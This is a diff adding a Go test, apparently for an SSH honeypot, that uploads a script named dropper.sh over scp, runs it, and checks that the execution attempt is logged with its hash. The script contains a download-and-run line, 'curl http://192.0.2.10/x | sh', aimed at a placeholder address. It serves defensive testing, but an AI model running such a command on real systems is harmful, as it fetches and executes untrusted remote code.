@@ -0,0 +1,61 @@
+package request_test
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"strings"
+	"testing"
+)
+
+func TestUploadedFileExecution(t *testing.T) {
+	hook := captureLog(t)
+	client := dial(t, newConfig())
+	script := "#!/bin/sh\ncurl http://192.0.2.10/x | sh\n"
+	upload, err := client.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	upload.Stdin = strings.NewReader(fmt.Sprintf("C0644 %v dropper.sh\n%v\x00", len(script), script))
+	if err := upload.Run("scp -t /tmp"); err != nil {
+		t.Fatalf("scp upload failed: %v", err)
+	}
+	sum := sha256.Sum256([]byte(script))
+
+	for _, test := range []struct {
+		command string
+		output  string
+		status  int
+	}{
+		{"/tmp/dropper.sh", "bash: line 1: /tmp/dropper.sh: Permission denied\n", 126},
+		{"chmod +x /tmp/dropper.sh && cd /tmp && ./dropper.sh", "", 0},
+	} {
+		session, err := client.NewSession()
+		if err != nil {
+			t.Fatal(err)
+		}
+		output, err := session.CombinedOutput(test.command)
+		status := 0
+		if exitErr, ok := err.(interface{ ExitStatus() int }); ok {
+			status = exitErr.ExitStatus()
+		} else if err != nil {
+			t.Fatal(err)
+		}
+		if string(output) != test.output || status != test.status {
+			t.Errorf("%q = %q with exit status %v, want %q and %v", test.command, output, status, test.output, test.status)
+		}
+	}
+	entry := waitFor(t, hook, "File execution attempted")
+	if entry.Data["path"] != "/tmp/dropper.sh" || entry.Data["sha256"] != hex.EncodeToString(sum[:]) || entry.Data["source"] != "scp" || entry.Data["category"] != "execution_attempt" {
+		t.Errorf("logged %v, want the execution of the uploaded script", entry.Data)
+	}
+	executions := 0
+	for _, entry := range hook.AllEntries() {
+		if entry.Message == "File execution attempted" {
+			executions++
+		}
+	}
+	if executions != 1 {
+		t.Errorf("logged %v executions, want only the one after chmod", executions)
+	}
+}